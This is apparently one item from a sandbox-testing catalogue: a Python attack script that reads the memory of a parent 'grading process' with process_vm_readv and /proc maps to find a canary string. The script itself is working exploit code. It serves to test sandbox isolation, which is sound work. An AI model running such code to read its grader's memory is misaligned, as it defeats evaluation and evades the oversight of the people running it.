# /// attack
# catalogue = "reading: memory of the parent"
# layers = ["seccomp", "processes", "uid", "landlock"]
# aim = "canary"
# ///
# Copies the grading process's memory with the call made for it.

# %%
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def copy_of(pid, start, size):
    buffer = ctypes.create_string_buffer(size)
    here, there = Piece(ctypes.addressof(buffer), size), Piece(start, size)
    got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return buffer.raw[: max(got, 0)]


for pid in {TARGET["pid"], os.getppid()}:
    try:
        for line in open(f"/proc/{pid}/maps"):
            if " rw-p " in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                found = re.findall(rb"canary[0-9a-f]{20}", copy_of(pid, start, min(end - start, 64 << 20)))
                if found:
                    print(pid, found)
    except OSError as error:
        print(pid, error)
